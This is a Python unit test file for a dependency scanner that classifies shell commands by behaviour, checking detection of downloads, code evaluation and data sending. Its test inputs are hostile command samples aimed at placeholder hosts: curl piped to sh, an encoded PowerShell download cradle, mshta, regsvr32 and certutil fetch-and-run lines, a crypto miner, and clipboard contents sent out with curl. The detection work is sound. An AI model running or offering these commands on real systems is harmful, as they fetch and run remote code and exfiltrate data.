from __future__ import annotations

import base64

import pytest

from depscan.facts.command import read_command
from depscan.facts.fact import Fact
from depscan.facts.sink import Sink
from tests.unit.facts.seen import WHERE, facts_of, one, reached_by, words


def test_the_start_itself_comes_first_with_the_whole_command() -> None:
    text, listed = facts_of("git describe --tags")[0], facts_of(["git", "describe", "--tags"])[0]
    assert (text.what, listed.what) == ("shell.run", "process.spawn")
    assert text.values == listed.values == ("git describe --tags",)
    assert len(facts_of(["git", "describe", "--tags"])) == 1


def test_an_argument_list_is_understood_like_a_command_line() -> None:
    facts = facts_of(["curl", "-s", "-o", "/tmp/a", "https://files.example.invalid/a"])
    assert words(facts) == ["process.spawn", "net.download", "file.write"]


def test_a_list_of_one_whole_command_line_is_a_command_line() -> None:
    assert "code.eval" in words(facts_of(["curl https://files.example.invalid/a | sh"]))


def test_data_in_the_unknown_part_of_a_command_flows_into_what_carries_it() -> None:
    sink = Sink()
    sink.add(Fact("env.dump", "install", "setup.py", 3))
    read_command("curl -d {?} https://files.example.invalid/a", sink=sink, sources=(0,), **WHERE)
    assert reached_by(sink.facts, "net.send") == {"env.dump"}


def test_a_wholly_unknown_address_is_no_proof_of_sending() -> None:
    sink = Sink()
    sink.add(Fact("env.read", "install", "setup.py", 3))
    read_command(["curl", "-O", "{?}"], sink=sink, sources=(0,), **WHERE)
    assert "net.send" not in words(sink.facts)
    assert one(sink.facts, "net.download").values == ()


@pytest.mark.parametrize(
    "command",
    [
        ["pip", "install", "left"],
        ["/usr/bin/python3", "-m", "pip", "install", "left"],
        "pip3 install left",
        "npm install left",
        ["uv", "pip", "install", "left"],
    ],
)
def test_installing_a_package_is_told_by_name(command: str | list[str]) -> None:
    assert "left" in one(facts_of(command), "package.install").values


def test_an_encoded_powershell_command_is_decoded_and_read() -> None:
    code = "IEX (New-Object Net.WebClient).DownloadString('https://files.example.invalid/x')"
    blob = base64.b64encode(code.encode("utf-16-le")).decode()
    for command in (f"powershell -nop -w hidden -enc {blob}", ["pwsh", "-NoProfile", "-EncodedCommand", blob]):
        facts = facts_of(command)
        assert "net.download" in reached_by(facts, "code.eval")
        assert "base64" in one(facts, "net.download").layer


@pytest.mark.parametrize(
    "command",
    [
        "mshta https://files.example.invalid/a.hta",
        "regsvr32 /s /n /u /i:https://files.example.invalid/a.sct scrobj.dll",
        'rundll32 javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();GetObject("script:https://files.example.invalid/a")',
        "msiexec /q /i https://files.example.invalid/a.msi",
    ],
)
def test_windows_programs_that_run_an_address_evaluate_code(command: str) -> None:
    assert "net.download" in reached_by(facts_of(command), "code.eval")


def test_certutil_and_bitsadmin_download_and_the_file_starts() -> None:
    for fetch in (
        "certutil -urlcache -split -f https://files.example.invalid/a.exe %TEMP%\\a.exe",
        "bitsadmin /transfer j https://files.example.invalid/a.exe %TEMP%\\a.exe",
    ):
        facts = facts_of(f'cmd /c "{fetch} & start /b %TEMP%\\a.exe"')
        assert "net.download" in reached_by(facts, "process.spawn")


def test_node_code_in_a_command_is_read_as_javascript() -> None:
    facts = facts_of(["node", "-e", "require('child_process').execSync('curl https://files.example.invalid/a | sh')"])
    assert "net.download" in reached_by(facts, "code.eval")


def test_miners_and_clipboards_are_known_by_their_programs() -> None:
    assert "crypto.mine" in words(facts_of("nohup ./xmrig -o pool.example.invalid:3333 -u x"))
    assert "clipboard.read" in reached_by(facts_of("xclip -o | curl -d @- https://files.example.invalid"), "net.send")
